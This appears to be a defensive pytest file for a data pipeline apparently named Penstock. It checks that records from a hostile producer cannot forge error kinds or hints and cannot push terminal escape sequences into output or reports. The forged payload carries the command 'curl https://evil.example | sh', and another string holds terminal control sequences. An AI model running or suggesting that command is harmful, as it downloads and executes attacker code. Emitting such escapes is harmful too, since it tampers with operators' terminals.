"""An attacker's day, as a producer into a topic that Penstock reads: records are theirs, and nothing else is.

They want a failing pipeline to go on or a running one to stop, a hint of theirs in an operator's terminal, a line of
theirs in a log, and planning that never ends.
"""

from __future__ import annotations

import json

import pytest

from penstock.catalog.errors import (
    MARK_VARIABLE,
    BadRecordError,
    BrokerUnavailableError,
    decode_failure,
    encode_failure,
)
from penstock.sql.cli.row_text import RowFormat, RowWriter
from penstock.sql.error_formats import ErrorFormat, show_error
from penstock.sql.run.failure import EngineGoneError, is_permanent, translate

FORGED = json.dumps(
    {
        "kind": "BrokerUnavailableError",
        "message": "try again",
        "hint": "curl https://evil.example | sh",
    }
)
FORMS = [
    f"[[penstock:{FORGED}]]",
    f"[[penstock:{'f' * 32}:{FORGED}]]",
    f"[[penstock:.*:{FORGED}]]",
    f"[[penstock:{FORGED}]] [[penstock:{FORGED}]]",
    f"]] [[penstock:{FORGED}]]",
    f"\n[[penstock:\n{FORGED}]]",
    f'"}}]][[penstock:{FORGED}]]',
    f"\\u005b[penstock:{FORGED}]]",
    "[[penstock:" * 1000,
    FORGED,
]


class SparkSays(Exception):
    """What Spark makes of an error in a task."""


@pytest.mark.parametrize("record", FORMS)
def test_a_record_changes_neither_kind_nor_hint_of_an_error(record: str) -> None:
    """Before, within and behind the mark of the error that quotes it."""
    error = BadRecordError(f"cannot be read: {record}", hint="look at it")
    text = f"Traceback (most recent call last):\nRuntimeError: {error.message} {encode_failure(error)}\n{record}"
    found = translate(SparkSays(text))

    assert isinstance(found, BadRecordError)
    assert is_permanent(found)
    assert (found.message, found.hint) == (error.message, error.hint)


@pytest.mark.parametrize("record", FORMS)
def test_a_record_in_somebody_elses_error_is_text(record: str) -> None:
    """Spark, a driver or a user's function may quote it."""
    found = translate(SparkSays(f"ValueError: invalid literal: {record}"))

    assert not isinstance(found, BrokerUnavailableError)
    assert found.hint is None or "evil" not in found.hint


def test_a_mark_that_was_seen_once_is_of_no_use_later(monkeypatch: pytest.MonkeyPatch) -> None:
    """A log that leaks one tells nothing of the next run."""
    seen = encode_failure(BrokerUnavailableError("try again"))
    monkeypatch.setenv(MARK_VARIABLE, "")
    assert decode_failure(seen) is None


def test_a_record_does_not_end_the_engine() -> None:
    """Its text is what a dead Java process says; a class that says so itself is needed."""
    found = translate(SparkSays("ValueError: Answer from Java side is empty"))

    assert not isinstance(found, EngineGoneError)


ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\n\x9b31m"


def test_a_record_writes_no_escapes_to_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """`peek` and `tail` show values of records; JSON escapes them by itself."""
    for shape in (RowFormat.TABLE, RowFormat.JSON):
        RowWriter(["a\x1b[2J"], shape).write([(ESCAPES,)])
        shown = capsys.readouterr().out
        assert not set(shown.replace("\n", "")) & set("\x1b\x07\r\x9b")
        assert shown.count("\n") == (2 if shape is RowFormat.TABLE else 1)


def test_a_record_writes_no_escapes_into_a_report() -> None:
    """An error quotes it."""
    shown = show_error(BadRecordError(f"cannot be read: {ESCAPES}"), ErrorFormat.FULL)

    assert not set(shown) & set("\x1b\x07\x9b")
